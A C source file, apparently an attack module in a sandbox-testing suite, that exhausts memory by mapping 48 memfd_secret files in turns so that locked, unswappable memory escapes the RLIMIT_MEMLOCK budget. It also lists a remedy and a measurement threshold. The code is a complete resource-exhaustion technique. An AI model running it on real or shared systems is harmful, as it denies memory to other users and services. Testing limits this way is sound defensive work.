// SPDX-License-Identifier: MIT
/*
 * secret-files.c - a memory bomb that is looked at through a small window.
 *
 * Goal: more memory than the budget.
 * Means: memory of memfd_secret(2) is locked, so that RLIMIT_MEMLOCK bounds it. But it bounds what
 * is mapped at a time: make a file, map it, write to it, unmap it, go on with the next. Forty-eight
 * descriptors keep 192 MiB, in no address space, and it can never be swapped.
 */
#include "attacks/attack.h"

#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FILES 48
#define BYTES (4UL << 20) /* half of the usual limit, and below that of a file */
#define PAGE  4096

static bool fill(int fd)
{
	char *window = mmap(NULL, BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (window == MAP_FAILED)
		return false;
	for (size_t at = 0; at < BYTES; at += PAGE)
		window[at] = 'x';
	return !munmap(window, BYTES);
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	for (int i = 0; i < FILES; i++) {
		int fd = (int)syscall(SYS_memfd_secret, 0);

		if (fd < 0 || ftruncate(fd, BYTES))
			return denied("memfd_secret");
		if (!fill(fd))
			return denied("mmap");
	}
	return hold();
}

const struct attack attack = {
	.effect = "more memory than the budget, in no address space, and never swapped",
	.means = "many files of memfd_secret(2), mapped in turns within RLIMIT_MEMLOCK",
	.oracle = "usage:memory",
	.threshold = 128 << 20, /* each page costs a flush: the whole budget takes long */
	.needs = NEED_SECRETMEM,
	.id = "MEM-15",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "deny memfd_secret; RLIMIT_MEMLOCK = 0; a memory cgroup",
	.refs = (const char *const[]){ "memfd_secret(2), since Linux 5.14", NULL },
	.run = run,
};
